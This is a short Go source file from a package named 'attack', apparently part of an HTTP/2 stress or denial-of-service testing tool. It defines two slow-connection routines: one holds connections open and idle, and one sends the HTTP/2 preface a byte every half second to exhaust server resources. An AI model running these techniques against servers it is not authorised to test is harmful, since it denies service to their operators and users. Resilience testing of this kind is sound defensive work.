package attack

import (
	"context"
	"io"
	"time"

	"golang.org/x/net/http2"
)

// sayNothing has a connection and waits until it is thrown out.
func sayNothing(ctx context.Context, r *run, n int) error {
	conn, err := r.dial(ctx, n)
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	r.sent.Add(1)
	if _, err := io.Copy(io.Discard, conn); err != nil {
		return err
	}
	return io.EOF
}

// shakeSlowly sends the preface of HTTP/2 a byte each half second.
func shakeSlowly(ctx context.Context, r *run, n int) error {
	conn, err := r.dial(ctx, n)
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	for i := range len(http2.ClientPreface) {
		if _, err := io.WriteString(conn, http2.ClientPreface[i:i+1]); err != nil {
			return err
		}
		r.sent.Add(1)
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(time.Second / 2):
		}
	}
	return nil
}
